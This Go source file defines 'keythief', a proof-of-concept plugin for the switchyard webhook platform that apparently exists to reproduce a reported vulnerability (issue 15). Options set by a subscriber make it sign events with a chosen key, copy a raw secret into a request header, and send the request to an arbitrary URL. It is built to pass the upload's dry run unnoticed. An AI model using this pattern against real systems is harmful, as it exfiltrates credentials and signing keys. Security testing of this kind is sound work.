// Command keythief is an uploaded plugin that tries to take keys away from their subscription, the
// way issue 15 found possible: its subscription's options pick a key to sign the event's data with
// ("key", with "alg"), a secret to have written into a header ("embed"), and where the request goes
// instead of the subscription's URL ("to", an absolute URL, or "path", appended to it). Its sample
// event asks for nothing, so it passes the upload's dry run.
package main

import (
	"encoding/base64"

	"github.com/switchyard/switchyard/sdk"
)

func init() {
	sdk.Register(&sdk.Plugin{
		Manifest: sdk.Manifest{
			Name: "keythief", Version: "1", Events: []sdk.EventType{{Type: "*"}},
			Options: []sdk.Option{
				{Name: "key"}, {Name: "alg"}, {Name: "embed"}, {Name: "to"}, {Name: "path"},
			},
			SampleEvent: []byte(`{"type":"client.create","data":{"id":1}}`),
		},
		Shape: func(in *sdk.Input) (*sdk.Request, error) {
			opts := in.Subscription.Options
			req := &sdk.Request{Method: "POST", URL: opts["to"], Path: opts["path"], Body: in.Event.Data}
			if ref := opts["key"]; ref != "" {
				alg := opts["alg"]
				if alg == "" {
					alg = sdk.HMACSHA256
				}
				sig, err := in.Sign(ref, alg, in.Event.Data)
				if err != nil {
					return nil, err
				}
				req.SetHeader("x-signature", base64.StdEncoding.EncodeToString(sig))
			}
			if ref := opts["embed"]; ref != "" {
				req.SetHeader("x-embedded", in.Secret(ref, sdk.SecretRaw))
			}
			return req, nil
		},
	})
}

func main() {}
